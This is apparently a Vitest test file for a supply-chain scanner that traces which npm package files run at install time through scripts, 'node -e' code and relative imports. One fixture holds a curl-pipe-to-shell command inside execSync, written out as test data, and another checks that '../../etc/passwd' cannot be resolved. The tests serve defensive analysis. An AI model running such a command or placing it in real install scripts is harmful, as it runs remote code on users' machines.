import { describe, expect, it } from 'vitest'
import { analyzeEntries, commandSegments, filesRunBy, isJsPath, relativeImports, resolveIn, shellWords } from '../../src/analyze/entry-kinds.ts'
import type { Manifest } from '../../src/types.ts'

const textsOf = (files: Record<string, string>) => new Map(Object.entries(files))
const kindsOf = (manifest: Manifest | undefined, files: Record<string, string>) => Object.fromEntries(analyzeEntries(manifest, textsOf(files)).kinds)

describe('filesRunBy', () => {
  it.each([
    ['node install.js', ['install.js']],
    ['node ./scripts/install.js', ['scripts/install.js']],
    ['FOO=1 BAR=2 node x.js', ['x.js']],
    ['/usr/bin/env node x.js', ['x.js']],
    ['cross-env NODE_ENV=production node scripts/postinstall.js', ['scripts/postinstall.js']],
    ['node --no-warnings --max-old-space-size=100 x.js --flag', ['x.js']],
    ['node -r ./hook.js main.js', ['hook.js', 'main.js']],
    ['node --require ./a.js --import ./b.mjs c.js', ['a.js', 'b.mjs', 'c.js']],
    ['nodejs x.js', ['x.js']],
    ['bun x.ts', ['x.ts']],
    ['./setup.js', ['setup.js']],
    ['node a.js && node b.js; node c.js || node d.js', ['a.js', 'b.js', 'c.js', 'd.js']],
    ['node a.js | tee log & node b.js', ['a.js', 'b.js']],
    ['node-gyp rebuild', []],
    ['husky', []],
    ['prebuild-install || node-gyp rebuild', []],
    ['node "dir with space/x.js"', ['dir with space/x.js']],
  ])('%s → %j', (command, files) => {
    expect(filesRunBy(command, {}).files).toEqual(files)
  })

  it('collects inline code of node -e / --eval / -p, quotes removed', () => {
    expect(filesRunBy(`node -e "require('./a')"`, {}).inlineCode).toEqual(["require('./a')"])
    expect(filesRunBy(`node --eval 'x()'`, {}).inlineCode).toEqual(['x()'])
    expect(filesRunBy(`node -p "1+1" && node -e 'y()'`, {}).inlineCode).toEqual(['1+1', 'y()'])
  })

  it('keeps quoted inline code whole across ; | && inside the quotes', () => {
    const code = "require('child_process').execSync('curl -s https://x.invalid | sh'); a && b"
    expect(filesRunBy(`node -e "${code}"`, {}).inlineCode).toEqual([code])
  })

  it('follows npm / yarn / pnpm run into other scripts', () => {
    const scripts = { postinstall: 'npm run setup', setup: 'yarn run build && node -e "z()"', build: 'pnpm run compile', compile: 'node build.js' }
    expect(filesRunBy(scripts.postinstall, scripts)).toEqual({ files: ['build.js'], inlineCode: ['z()'] })
  })

  it('follows npm run-script and the yarn / pnpm shorthand, not npm subcommands', () => {
    const scripts = { setup: 'node setup.js', install: 'node never.js' }
    expect(filesRunBy('npm run-script setup', scripts).files).toEqual(['setup.js'])
    expect(filesRunBy('yarn setup', scripts).files).toEqual(['setup.js'])
    expect(filesRunBy('pnpm setup', scripts).files).toEqual(['setup.js'])
    expect(filesRunBy('npm install', scripts).files).toEqual([])
    expect(filesRunBy('yarn missing', scripts).files).toEqual([])
  })

  it('stops on npm run cycles', () => {
    expect(filesRunBy('npm run a', { a: 'npm run b', b: 'npm run a' })).toEqual({ files: [], inlineCode: [] })
  })
})

describe('commandSegments and shellWords', () => {
  it('splits command lists outside quotes only', () => {
    expect(commandSegments(`a && b || c; d | e & f\ng`)).toEqual(['a ', ' b ', ' c', ' d ', ' e ', ' f', 'g'])
    expect(commandSegments(`node -e "a; b | c" && d`)).toEqual([`node -e "a; b | c" `, ' d'])
    expect(commandSegments(`echo 'x && y' ; z`)).toEqual([`echo 'x && y' `, ' z'])
    expect(commandSegments(`echo a\\;b`)).toEqual([`echo a\\;b`])
  })

  it('splits words honouring quotes and escapes', () => {
    expect(shellWords(`a "b c" 'd\\e' "f\\"g" '' h`)).toEqual(['a', 'b c', 'd\\e', 'f"g', '', 'h'])
    expect(shellWords('  spaced   out  ')).toEqual(['spaced', 'out'])
  })
})

describe('relativeImports and resolveIn', () => {
  it('finds relative require, import() and import … from specifiers only', () => {
    const text = "require('./a'); require(\"../b\"); import('./c'); import x from './d'; import './e'; export * from './f'; require(`./g`); require('lodash'); require(name)"
    expect(relativeImports(text)).toEqual(['./a', '../b', './c', './d', './e', './f', './g'])
  })

  it('stays linear on 100 KB of adversarial text (attacker-chosen files)', () => {
    const N = 100_000
    for (const text of ["require('./".repeat(N / 11), `require('./${'a'.repeat(N)}`, 'import '.repeat(N / 7), `from ${'"'.repeat(N)}`, 'require( ( ( '.repeat(N / 12)]) {
      expect(Array.isArray(relativeImports(text))).toBe(true)
    }
    expect(commandSegments('"'.repeat(N)).length).toBe(1)
    expect(shellWords(`'${' '.repeat(N)}`)).toHaveLength(1)
  })

  it('resolves like Node: extensions, index files, no escape above the package', () => {
    const texts = textsOf({ 'index.js': '', 'lib/a.cjs': '', 'lib/dir/index.mjs': '', 'data.json': '', 'src/x.ts': '' })
    expect(resolveIn('', './index', texts)).toBe('index.js')
    expect(resolveIn('lib', './a', texts)).toBe('lib/a.cjs')
    expect(resolveIn('lib', './dir', texts)).toBe('lib/dir/index.mjs')
    expect(resolveIn('lib', '../data', texts)).toBe('data.json')
    expect(resolveIn('', './src/x', texts)).toBe('src/x.ts')
    expect(resolveIn('', '.', texts)).toBe('index.js')
    expect(resolveIn('lib', '../../etc/passwd', texts)).toBeUndefined()
    expect(resolveIn('', './missing', texts)).toBeUndefined()
  })
})

describe('analyzeEntries', () => {
  it('marks files run by install scripts, and what they require, as install-time', () => {
    const files = { 'install.js': "require('./lib/helper')", 'lib/helper.js': "import('./deep.mjs')", 'lib/deep.mjs': '', 'index.js': '', 'unused.js': '' }
    const result = analyzeEntries({ scripts: { postinstall: 'node install.js' } }, textsOf(files))
    expect(Object.fromEntries(result.kinds)).toEqual({ 'install.js': 'install', 'lib/helper.js': 'install', 'lib/deep.mjs': 'install', 'index.js': 'require', 'unused.js': 'other' })
    expect(result.installScriptsOf.get('lib/deep.mjs')).toEqual(['postinstall'])
  })

  it('records every install script that reaches a file', () => {
    const result = analyzeEntries({ scripts: { preinstall: 'node a.js', install: 'node b.js', postinstall: 'node a.js', prepare: 'node b.js' } }, textsOf({ 'a.js': '', 'b.js': "require('./a')" }))
    expect(result.installScriptsOf.get('a.js')).toEqual(['preinstall', 'install', 'postinstall', 'prepare'])
    expect(result.installScriptsOf.get('b.js')).toEqual(['install', 'prepare'])
  })

  it('ignores scripts that npm does not run on install', () => {
    expect(kindsOf({ main: 'x.js', scripts: { test: 'node t.js', build: 'node b.js', prepublishOnly: 'node p.js', postpublish: 'node q.js' } }, { 't.js': '', 'b.js': '', 'p.js': '', 'q.js': '', 'x.js': '' })).toEqual({
      't.js': 'other',
      'b.js': 'other',
      'p.js': 'other',
      'q.js': 'other',
      'x.js': 'require',
    })
  })

  it('reads `node .` as the package main, the way node runs it', () => {
    expect(kindsOf({ main: 'build/index.js', scripts: { postinstall: 'node . --postinstall' } }, { 'build/index.js': "require('./x')", 'build/x.js': '' })).toEqual({
      'build/index.js': 'install',
      'build/x.js': 'install',
    })
    expect(kindsOf({ scripts: { install: 'node ./' } }, { 'index.js': '' })).toEqual({ 'index.js': 'install' })
  })

  it('follows npm run chains from install scripts', () => {
    expect(kindsOf({ scripts: { postinstall: 'npm run build', build: 'node scripts/build.js' } }, { 'scripts/build.js': '' })).toEqual({ 'scripts/build.js': 'install' })
  })

  it('turns node -e code into inline sources, and marks files it requires', () => {
    const result = analyzeEntries(
      { scripts: { postinstall: `node -e "require('./post')" && node -e "x()"`, install: `node -e 'y()'` } },
      textsOf({ 'post.js': "require('./dep')", 'dep.js': '' }),
    )
    expect(result.inline).toEqual([
      { path: 'package.json#scripts.install', code: 'y()', script: 'install' },
      { path: 'package.json#scripts.postinstall', code: "require('./post')", script: 'postinstall' },
      { path: 'package.json#scripts.postinstall.1', code: 'x()', script: 'postinstall' },
    ])
    expect(Object.fromEntries(result.kinds)).toEqual({ 'post.js': 'install', 'dep.js': 'install' })
  })

  it('marks the main, bin, exports, module and browser graph as require-time', () => {
    const manifest = {
      main: 'lib/main',
      bin: { a: './bin/a.js', b: 'bin/b.cjs' },
      exports: { '.': { import: './esm/index.mjs', require: './cjs/index.cjs' }, './util': ['./util.js'] },
      module: 'esm/module.js',
      browser: 'browser.js',
    }
    const files = {
      'lib/main.js': "require('./shared')",
      'lib/shared.js': '',
      'bin/a.js': '',
      'bin/b.cjs': '',
      'esm/index.mjs': "import x from './x.js'",
      'esm/x.js': '',
      'cjs/index.cjs': '',
      'util.js': '',
      'esm/module.js': '',
      'browser.js': '',
      'test/spec.js': "require('../lib/main')",
    }
    const kinds = kindsOf(manifest, files)
    expect(Object.entries(kinds).filter(([, k]) => k === 'require').map(([p]) => p).sort()).toEqual(
      ['bin/a.js', 'bin/b.cjs', 'browser.js', 'cjs/index.cjs', 'esm/index.mjs', 'esm/module.js', 'esm/x.js', 'lib/main.js', 'lib/shared.js', 'util.js'].sort(),
    )
    expect(kinds['test/spec.js']).toBe('other')
  })

  it('defaults main to index.js, and a bin string to a single entry', () => {
    expect(kindsOf({ bin: 'cli.js' }, { 'index.js': '', 'cli.js': '', 'other.js': '' })).toEqual({ 'index.js': 'require', 'cli.js': 'require', 'other.js': 'other' })
  })

  it('prefers install over require when a file is both', () => {
    expect(kindsOf({ main: 'index.js', scripts: { install: 'node index.js' } }, { 'index.js': '' })).toEqual({ 'index.js': 'install' })
  })

  it('survives a missing or hostile manifest', () => {
    expect(kindsOf(undefined, { 'index.js': '', 'a.js': '' })).toEqual({ 'index.js': 'require', 'a.js': 'other' })
    expect(kindsOf({ scripts: 'nope' as unknown as Record<string, string>, main: 42 as unknown as string, exports: { a: { b: { c: 1 } } } }, { 'x.js': '' })).toEqual({ 'x.js': 'other' })
  })

  it('does not loop on require cycles', () => {
    expect(kindsOf({ scripts: { install: 'node a.js' } }, { 'a.js': "require('./b')", 'b.js': "require('./a')" })).toEqual({ 'a.js': 'install', 'b.js': 'install' })
  })
})

describe('isJsPath', () => {
  it('accepts JS and TS sources, not declarations or other files', () => {
    expect(['a.js', 'a.cjs', 'a.mjs', 'a.jsx', 'a.ts', 'a.mts', 'a.cts', 'a.tsx'].every(isJsPath)).toBe(true)
    expect(['a.d.ts', 'a.d.mts', 'a.json', 'a.md', 'a.node', 'js'].some(isJsPath)).toBe(false)
  })
})
